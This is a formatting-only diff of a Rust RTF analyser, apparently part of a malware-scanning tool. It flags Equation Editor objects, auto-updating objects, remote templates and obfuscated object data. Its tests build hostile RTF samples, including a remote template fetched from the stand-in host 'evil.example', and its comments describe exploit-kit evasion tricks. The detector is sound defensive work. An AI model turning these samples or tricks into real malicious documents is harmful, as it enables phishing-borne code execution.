@@ -58,16 +58,56 @@ struct Group {
 
 /// Destinations whose content is not document text.
 const NON_TEXT: &[&str] = &[
-    "fonttbl", "colortbl", "stylesheet", "info", "pict", "object", "objdata", "themedata",
-    "colorschememapping", "datastore", "latentstyles", "listtable", "listoverridetable", "rsidtbl",
-    "generator", "xmlnstbl", "filetbl", "revtbl", "header", "footer", "headerl", "headerr", "footerl",
-    "footerr", "fldinst", "result", "shpinst", "sp", "sn", "sv", "bkmkstart", "bkmkend", "pgdsctbl",
-    "mmathpr", "wgrffmtfilter", "pnseclvl", "listtext", "nonshppict", "blipuid", "panose",
+    "fonttbl",
+    "colortbl",
+    "stylesheet",
+    "info",
+    "pict",
+    "object",
+    "objdata",
+    "themedata",
+    "colorschememapping",
+    "datastore",
+    "latentstyles",
+    "listtable",
+    "listoverridetable",
+    "rsidtbl",
+    "generator",
+    "xmlnstbl",
+    "filetbl",
+    "revtbl",
+    "header",
+    "footer",
+    "headerl",
+    "headerr",
+    "footerl",
+    "footerr",
+    "fldinst",
+    "result",
+    "shpinst",
+    "sp",
+    "sn",
+    "sv",
+    "bkmkstart",
+    "bkmkend",
+    "pgdsctbl",
+    "mmathpr",
+    "wgrffmtfilter",
+    "pnseclvl",
+    "listtext",
+    "nonshppict",
+    "blipuid",
+    "panose",
 ];
 
 pub(crate) fn scan(data: &[u8]) -> Scan {
     let mut s = Scan::default();
-    let mut stack: Vec<Group> = vec![Group { dest: Dest::Text, object: None, starred: false, fresh: false }];
+    let mut stack: Vec<Group> = vec![Group {
+        dest: Dest::Text,
+        object: None,
+        starred: false,
+        fresh: false,
+    }];
     let mut nibble: Option<u8> = None;
     let mut i = 0usize;
     let n = data.len();
@@ -75,7 +115,12 @@ pub(crate) fn scan(data: &[u8]) -> Scan {
         let c = data[i];
         match c {
             b'{' => {
-                let parent = *stack.last().unwrap_or(&Group { dest: Dest::Text, object: None, starred: false, fresh: false });
+                let parent = *stack.last().unwrap_or(&Group {
+                    dest: Dest::Text,
+                    object: None,
+                    starred: false,
+                    fresh: false,
+                });
                 let dest = match parent.dest {
                     Dest::Text => Dest::Text,
                     // Word ignores the text of groups nested in \objdata (junk groups in exploit kits).
@@ -83,7 +128,12 @@ pub(crate) fn scan(data: &[u8]) -> Scan {
                 };
                 s.groups += 1;
                 if stack.len() < 10_000 {
-                    stack.push(Group { dest, object: parent.object, starred: false, fresh: true });
+                    stack.push(Group {
+                        dest,
+                        object: parent.object,
+                        starred: false,
+                        fresh: true,
+                    });
                 }
                 s.max_depth = s.max_depth.max(stack.len());
                 i += 1;
@@ -124,7 +174,9 @@ pub(crate) fn scan(data: &[u8]) -> Scan {
                 while i < n && i - start < 32 && data[i].is_ascii_alphabetic() {
                     i += 1;
                 }
-                let word = std::str::from_utf8(&data[start..i]).unwrap_or("").to_ascii_lowercase();
+                let word = std::str::from_utf8(&data[start..i])
+                    .unwrap_or("")
+                    .to_ascii_lowercase();
                 let pstart = i;
                 if data.get(i) == Some(&b'-') {
                     i += 1;
@@ -132,14 +184,21 @@ pub(crate) fn scan(data: &[u8]) -> Scan {
                 while i < n && i - pstart < 10 && data[i].is_ascii_digit() {
                     i += 1;
                 }
-                let param: Option<i64> = std::str::from_utf8(&data[pstart..i]).ok().and_then(|p| p.parse().ok());
+                let param: Option<i64> = std::str::from_utf8(&data[pstart..i])
+                    .ok()
+                    .and_then(|p| p.parse().ok());
                 if data.get(i) == Some(&b' ') {
                     i += 1;
                 }
                 control(&mut s, &mut stack, &word, param, data, &mut i, &mut nibble);
             }
             _ => {
-                let g = *stack.last().unwrap_or(&Group { dest: Dest::Text, object: None, starred: false, fresh: false });
+                let g = *stack.last().unwrap_or(&Group {
+                    dest: Dest::Text,
+                    object: None,
+                    starred: false,
+                    fresh: false,
+                });
                 if let Some(top) = stack.last_mut() {
                     top.fresh = false;
                 }
@@ -277,7 +336,17 @@ pub(crate) fn analyse(w: &mut Walk<'_>, node: &mut Node, data: &[u8]) {
     let mut odd = Vec::new();
     // Word accepts any header that starts with "{\rt"; "{\rtf1" is the only one other readers expect.
     if !data.starts_with(b"{\\rtf1") {
-        let head: String = data.iter().take(8).map(|&c| if c.is_ascii_graphic() { char::from(c) } else { '.' }).collect();
+        let head: String = data
+            .iter()
+            .take(8)
+            .map(|&c| {
+                if c.is_ascii_graphic() {
+                    char::from(c)
+                } else {
+                    '.'
+                }
+            })
+            .collect();
         odd.push(format!("non-standard header \"{head}\""));
     }
     let s = scan(data);
@@ -310,7 +379,11 @@ pub(crate) fn analyse(w: &mut Walk<'_>, node: &mut Node, data: &[u8]) {
         }
         let where_ = format!("RTF object {}", k + 1);
         if o.junk > 0 {
-            odd.push(format!("{} non-hex tokens in the \\objdata of object {}", o.junk, k + 1));
+            odd.push(format!(
+                "{} non-hex tokens in the \\objdata of object {}",
+                o.junk,
+                k + 1
+            ));
         }
         let ole1 = native::parse_ole1(&o.data);
         let class = ole1
@@ -318,7 +391,11 @@ pub(crate) fn analyse(w: &mut Walk<'_>, node: &mut Node, data: &[u8]) {
             .map(|h| h.class.clone())
             .filter(|c| !c.is_empty())
             .unwrap_or_else(|| o.class.trim().to_string());
-        classes.push(if class.is_empty() { "?".to_string() } else { class.clone() });
+        classes.push(if class.is_empty() {
+            "?".to_string()
+        } else {
+            class.clone()
+        });
         if is_equation(&class) || is_equation(&o.class) {
             super::ole::flag_equation(node, &format!("{where_}: class {class}"));
         }
@@ -338,7 +415,7 @@ pub(crate) fn analyse(w: &mut Walk<'_>, node: &mut Node, data: &[u8]) {
                 Severity::Medium,
                 "RTF object updates itself when the document opens (\\objupdate)",
                 &[t::EXPLOITATION_FOR_CLIENT_EXECUTION],
-                &format!("{where_}: class {class}"),
+                format!("{where_}: class {class}"),
                 "\\objupdate loads the object's server without a click, as exploits need",
             );
         }
@@ -348,7 +425,11 @@ pub(crate) fn analyse(w: &mut Walk<'_>, node: &mut Node, data: &[u8]) {
                 if !node.has("office.rtf_linked_object") {
                     node.flag(
                         "office.rtf_linked_object",
-                        if super::is_remote(&h.topic) { Severity::High } else { Severity::Low },
+                        if super::is_remote(&h.topic) {
+                            Severity::High
+                        } else {
+                            Severity::Low
+                        },
                         "RTF links an object from another file",
                         &[t::TEMPLATE_INJECTION],
                         &target,
@@ -356,15 +437,22 @@ pub(crate) fn analyse(w: &mut Walk<'_>, node: &mut Node, data: &[u8]) {
                     );
                 }
             }
-            Some(h) if class.eq_ignore_ascii_case("Package") => match native::parse_package(h.native) {
-                Some(p) => native::package(w, node, &p, &where_),
-                None => w.child(node, &format!("{where_}.bin"), h.native),
-            },
-            Some(h) if !h.native.is_empty() => w.child(node, &format!("{where_} ({class})"), h.native),
+            Some(h) if class.eq_ignore_ascii_case("Package") => {
+                match native::parse_package(h.native) {
+                    Some(p) => native::package(w, node, &p, &where_),
+                    None => w.child(node, &format!("{where_}.bin"), h.native),
+                }
+            }
+            Some(h) if !h.native.is_empty() => {
+                w.child(node, &format!("{where_} ({class})"), h.native)
+            }
             Some(_) => {}
             None if !o.data.is_empty() => {
                 // Not an OLE1 header: some kits put the compound file (or a PE) right in \objdata.
-                let at = o.data.windows(8).position(|w| w == [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]);
+                let at = o
+                    .data
+                    .windows(8)
+                    .position(|w| w == [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]);
                 let payload = at.map(|a| &o.data[a..]).unwrap_or(&o.data);
                 w.child(node, &format!("{where_}.bin"), payload);
             }
@@ -429,7 +517,10 @@ mod tests {
         assert_eq!(s.objects[0].class, "Equation.3");
         let n = run(doc.as_bytes(), "a.rtf");
         let found = ids(&n);
-        assert!(found.contains(&"office.equation_editor".to_string()), "{found:?}");
+        assert!(
+            found.contains(&"office.equation_editor".to_string()),
+            "{found:?}"
+        );
         assert!(found.contains(&"office.rtf_objupdate".to_string()));
         assert_eq!(n.format.as_deref(), Some("RTF document"));
     }
@@ -449,7 +540,8 @@ mod tests {
     #[test]
     fn bin_runs_remote_template_and_odd_header() {
         let native = ole1("Word.Document.8", b"abcd");
-        let mut doc = b"{\\rt{\\*\\template http://evil.example/t.dot}{\\object{\\*\\objdata \\bin".to_vec();
+        let mut doc =
+            b"{\\rt{\\*\\template http://evil.example/t.dot}{\\object{\\*\\objdata \\bin".to_vec();
         doc.extend_from_slice(format!("{} ", native.len()).as_bytes());
         doc.extend_from_slice(&native);
         doc.extend_from_slice(b"}}}");
@@ -457,14 +549,27 @@ mod tests {
         assert_eq!(s.objects[0].data, native);
         let n = run(&doc, "a.doc");
         let found = ids(&n);
-        assert!(found.contains(&"office.remote_template".to_string()), "{found:?}");
+        assert!(
+            found.contains(&"office.remote_template".to_string()),
+            "{found:?}"
+        );
         assert!(found.contains(&"office.rtf_obfuscated".to_string()));
-        assert!(n.children.iter().any(|c| c.name.contains("Word.Document.8")));
+        assert!(n
+            .children
+            .iter()
+            .any(|c| c.name.contains("Word.Document.8")));
     }
 
     #[test]
     fn hostile_rtf_never_panics() {
-        for d in [&b"{\\rtf1"[..], b"{\\", b"{\\bin99999999999", b"{{{{{{{{{{", b"}}}}\\'", b"{\\object{\\*\\objdata 0"] {
+        for d in [
+            &b"{\\rtf1"[..],
+            b"{\\",
+            b"{\\bin99999999999",
+            b"{{{{{{{{{{",
+            b"}}}}\\'",
+            b"{\\object{\\*\\objdata 0",
+        ] {
             let _ = run(d, "x.rtf");
         }
         let deep = "{".repeat(50_000);
